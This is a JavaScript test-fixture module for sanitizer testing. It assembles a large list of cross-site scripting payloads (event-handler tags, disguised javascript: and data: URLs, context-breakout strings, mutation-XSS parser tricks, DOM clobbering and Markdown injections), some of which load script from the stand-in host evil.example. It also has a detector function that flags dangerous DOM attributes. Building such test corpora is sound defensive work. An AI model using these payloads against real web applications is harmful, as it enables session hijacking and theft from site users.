// Texts that try to run a script where they are shown, for the tests of everything that shows what others wrote. Each
// would set `hit` or ask for evil.example. They are made of families: every way into a script, in every place of HTML,
// through every disguise; texts that mean one thing to one parser and another to the next; and Markdown's own ways.

const script = 'hit=1';
const call = 'javascript:hit=1';

// Elements that run a handler without anybody's help, or once something is done to them.
const handlers = [
  '<img src=x onerror=%>', '<img src onerror=%>', '<image src=x onerror=%>', '<svg onload=%>', '<svg><g onload=%></g></svg>', '<body onload=%>', '<body onpageshow=%>',
  '<video src=x onerror=%></video>', '<video><source onerror=%></video>', '<audio src=x onerror=%></audio>', '<video autoplay onloadstart=%><source src=x></video>',
  '<iframe onload=%></iframe>', '<iframe src=about:blank onload=%></iframe>', '<object data=x onerror=%></object>', '<embed src=x onload=%>', '<link rel=stylesheet href=/x.css onerror=%>',
  '<style onload=%>a{}</style>', '<script src=/nowhere.js onerror=%></script>', '<details open ontoggle=%>x</details>', '<input autofocus onfocus=%>', '<select autofocus onfocus=%></select>',
  '<textarea autofocus onfocus=%></textarea>', '<button autofocus onfocus=%>x</button>', '<a href=# autofocus onfocus=%>x</a>', '<p tabindex=0 autofocus onfocus=%>x</p>',
  '<div contenteditable autofocus onfocus=%>x</div>', '<p onmouseover=%>x</p>', '<p onclick=%>x</p>', '<p onpointerenter=%>x</p>', '<p oncontentvisibilityautostatechange=% style=content-visibility:auto>x</p>',
  '<marquee onstart=%>x</marquee>', '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=%>x</p>', '<p style="transition:color 1s" ontransitionend=%>x</p>',
  '<form><input type=image src=x onerror=%></form>', '<input type=image src=x onerror=%>', '<table background=x onerror=%><tr><td>x</table>', '<xss onfocus=% autofocus tabindex=1>x</xss>',
  '<dialog open onclose=%>x</dialog>', '<p popover id=p onbeforetoggle=%>x</p><button popovertarget=p>x</button>', '<svg><animate onbegin=% attributeName=x dur=1s></svg>', '<svg><set onbegin=% attributeName=x></svg>',
];

const addresses = [
  '<a href="%">x</a>', '<a href=%>x</a>', "<a href='%'>x</a>", '<area href="%">', '<form action="%"><button>x</button></form>', '<form id=f></form><button form=f formaction="%">x</button>', '<iframe src="%"></iframe>',
  '<object data="%"></object>', '<embed src="%">', '<svg><a xlink:href="%"><text y=9>x</text></a></svg>', '<math href="%">x</math>', '<math><a xlink:href="%">x</a></math>',
  '<base href="%//">', '<meta http-equiv=refresh content="0;url=%">', '<link rel=import href="%">', '<svg><use href="%#x"></svg>', '<video poster="%"></video>', '<img src="%">', '<img srcset="%">',
  '<svg><a><animate attributeName=href values="%"/><text y=9>x</text></a></svg>', '<svg><script href="%"></script></svg>', '<input type=image src="%">', '<p style="background:url(%)">x</p>', '<style>@import "%";</style>',
];

// One and the same address to a browser, and to nobody else.
const disguises = [
  call, 'JaVaScRiPt:hit=1', ' javascript:hit=1', '\u0001javascript:hit=1', 'java\tscript:hit=1', 'java\nscript:hit=1', 'java&Tab;script:hit=1', 'java&NewLine;script&colon;hit=1', 'javascript&colon;hit=1',
  '&#106;avascript:hit=1', '&#x6A;&#x61;vascript:hit=1', '&#0000106avascript:hit=1', 'javascript://evil.example/%0ahit=1', 'javascript:void(hit=1)', 'data:text/html,<script>parent.hit=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit=1"/>', 'vbscript:hit', 'view-source:javascript:hit=1', 'feed:javascript:hit=1',
  'blob:javascript:hit=1', '//evil.example/x', 'https:/\\evil.example', '%6Aavascript:hit=1', 'javascript\\x3ahit=1',
];

// Out of the place where a text is put.
const ways_out = [
  '"><script>hit=1</script>', "'><script>hit=1</script>", '--><script>hit=1</script>', ']]><script>hit=1</script>', '</title><script>hit=1</script>', '</textarea><script>hit=1</script>', '</style><script>hit=1</script>',
  '</noscript><script>hit=1</script>', '</script><script>hit=1</script>', '</p></div></article></section></main><script>hit=1</script>', '" onmouseover=hit=1 x="', "' onmouseover=hit=1 x='", '" autofocus onfocus=hit=1 x="',
  '` onmouseover=hit=1', '\\"><img src=x onerror=hit=1>', '<!--/byline:conversation--><script>hit=1</script>', '<!--byline:conversation en--><script>hit=1</script><!--/byline:conversation-->', '{{ 7*7 }}{% raw %}<script>hit=1</script>',
  '{{ "<script>hit=1</script>" | safe }}', '${hit=1}', '<%= hit=1 %>', '\u2028hit=1\u2029', '\u202e<script>hit=1</script>', '%3Cscript%3Ehit=1%3C/script%3E', '&lt;script&gt;hit=1&lt;/script&gt;', '\\u003cscript\\u003ehit=1\\u003c/script\\u003e',
  '＜script＞hit=1＜/script＞', '<scr<script>ipt>hit=1</scr</script>ipt>', '<<script>hit=1//<</script>', '<script\u0000>hit=1</script>', '<script/x>hit=1</script>', '<script >hit=1</script\t>', '<SCRIPT>hit=1</SCRIPT>', '<script>hit=1',
  '<script type=module>globalThis.hit=1</script>', '<script src=//evil.example/x.js></script>', '<script src="data:,hit=1"></script>',
];

// What one parser reads as text, and another, once it was written down again, as elements.
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%&gt;">', '<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=%>">', '<svg><style><img src="</style><img src=x onerror=%>">',
  '<svg></p><style><a id="</style><img src=x onerror=%>">', '<math></p><style><!--</style><img src=x onerror=%>-->', '<svg><p><style><g title="</style><img src=x onerror=%>">', '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<noembed><p title="</noembed><img src=x onerror=%>">', '<noframes><p title="</noframes><img src=x onerror=%>">', '<xmp><p title="</xmp><img src=x onerror=%>">', '<title><p title="</title><img src=x onerror=%>">',
  '<textarea><p title="</textarea><img src=x onerror=%>">', '<iframe><p title="</iframe><img src=x onerror=%>">', '<template><p title="</template><img src=x onerror=%>">', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=%>">',
  '<svg><foreignObject><math><mi><table><mi><style><!--</style><img src=x onerror=%>', '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=%>"></annotation-xml></math>',
  '<svg><desc><table><desc><style><a title="</style><img src=x onerror=%>"></style>', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=%>">', '<table><tr><td><select><p><style></select><img src=x onerror=%>',
  '<p><svg><title><template><style></title><img src=x onerror=%>', '<dl><dt><svg><dd><style><!--</dl><img src=x onerror=%>', '<!--><img src=x onerror=%>-->', '<!---><img src=x onerror=%>-->', '<!-- --!><img src=x onerror=%> -->',
  '<!--<img src="--><img src=x onerror=%//">', '<![CDATA[<img src=x onerror=%>]]>', '<svg><![CDATA[><img src=x onerror=%>]]></svg>', '<?xml ><img src=x onerror=%>?>', '<?php ?><img src=x onerror=%>', '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=%>">]>&y;',
  '<plaintext><img src=x onerror=%>', '<listing>&lt;img src=x onerror=%&gt;</listing>', '<b <script>%</script>', '<a name="getElementById"><form id=body><input name=innerHTML>', '<img name=cookie><form name=createElement>', '<a id=hit href=cid:1>x</a>',
].filter((each) => !each.includes('id=hit'));

const markdown = [
  '[a](%)', '[a](<%>)', '![a](%)', '<%>', '[a]: %\n\n[a]', '[a][b]\n\n[b]: % "t"', '[![a](%)](%)', '[a](% "t")', '[a](x "t\\" onclick=hit=1 ")', '[a](x\'onclick=hit=1)', '![a](x"onerror="hit=1)', '[a](https://e.example/"onmouseover="hit=1)',
  '[a](https://e.example/<script>hit=1</script>)', '[a\\](%)', '[a](\\%)', '[a](&#106;avascript:hit=1)', '[a](java&Tab;script:hit=1)', '[<script>hit=1</script>](https://e.example/)', '![<img src=x onerror=hit=1>](x)', '`<script>hit=1</script>`',
  '```"><script>hit=1</script>\nx\n```', '```js {onclick="hit=1"}\nx\n```', '    <script>hit=1</script>', '~~~<script>hit=1</script>\n~~~', '> <script>hit=1</script>', '- <script>hit=1</script>', '# <script>hit=1</script> {onclick=hit=1 #x .y}',
  '| <script>hit=1</script> |\n|---|\n| [a](%) |', '[^1]\n\n[^1]: <script>hit=1</script>', '$<script>hit=1</script>$', '$$\n\\href{%}{x}\n$$', '```dot\ndigraph{a[URL="%"]}\n```', '```mermaid\ngraph TD; a["<img src=x onerror=hit=1>"]\n```',
  ':::note{onclick="hit=1"}\n<script>hit=1</script>\n:::', '::figure{src="%" caption="<script>hit=1</script>"}', ':badge[<script>hit=1</script>]{onclick=hit=1}', '[[%|x]] ![[%]]', '[x]{onclick="hit=1"}', '![a](https://e.example/a.png){onerror=hit=1}',
  '> [!NOTE] <script>hit=1</script>\n> x', '&lt;img src=x onerror=hit=1&gt;', '\\<script>hit=1\\</script>', '<a href="%" >x</a\n>', '<div\n onclick="hit=1"\n>x</div>', '**<script>hit=1</script>**', 'www.e.example/"onclick="hit=1', 'https://e.example/"><script>hit=1</script>',
  'a@b.example"onclick="hit=1', 'mailto:a@b.example?subject="><script>hit=1</script>', '<https://e.example/"onclick="hit=1>', '<a@b.example"onclick="hit=1>',
];

const filled = (patterns, value) => patterns.map((each) => each.replaceAll('%', value));

// Texts for wherever somebody writes one.
export const textVectors = [...new Set([
  ...filled(handlers, script), ...filled(addresses, call), ...disguises.map((each) => `<a href="${each}">x</a>`), ...disguises.map((each) => `[x](${each})`), ...disguises.map((each) => `<${each}>`),
  ...ways_out, ...filled(mutations, script), ...filled(markdown, call),
])];
// What fits into a name: one line, not long.
export const nameVectors = textVectors.filter((each) => [...each].length <= 58 && !/[\n\t\0\u0001]/.test(each));
export const addressVectors = [...disguises, ...ways_out, 'https://e.example/"onmouseover="hit=1', "https://e.example/'onmouseover='hit=1", 'https://e.example/"><script>hit=1</script>', 'https://e.example/\nx:javascript:hit=1', 'http:javascript:hit=1', 'https://javascript:hit=1@e.example/'];

// In the page: what ran, or could run, in the parts that show what others wrote. Wakes handlers that wait for somebody.
export const whatCouldRun = (selector) => {
  const bad = [];
  for (const each of document.querySelectorAll(`${selector}, ${selector} *`)) {
    if (each.matches('script, iframe, frame, style, svg, math, base, meta, object, embed, link, template, video, audio, portal') || each.localName.includes('-')) bad.push(each.outerHTML);
    for (const { name, value } of each.attributes) {
      const leads = /^(href|src|srcset|action|formaction|data|poster|xlink:href|background|ping|content)$/i.test(name);
      if (/^on|^style$|^srcdoc$/i.test(name) || (leads && /^[\s\x00-\x20]*(javascript|data|vbscript|blob|feed|view-source):/i.test(value))) bad.push(each.outerHTML);
      if (leads && !/^(https?:\/\/|mailto:|\/|#)/.test(value)) bad.push(`${name}=${value}`);
    }
    for (const type of ['mouseover', 'pointerenter', 'focus', 'toggle', 'animationstart', 'load', 'error', 'beforetoggle']) each.dispatchEvent(new Event(type));
  }
  return { ran: globalThis.hit !== undefined, bad: bad.map((each) => each.slice(0, 300)) };
};
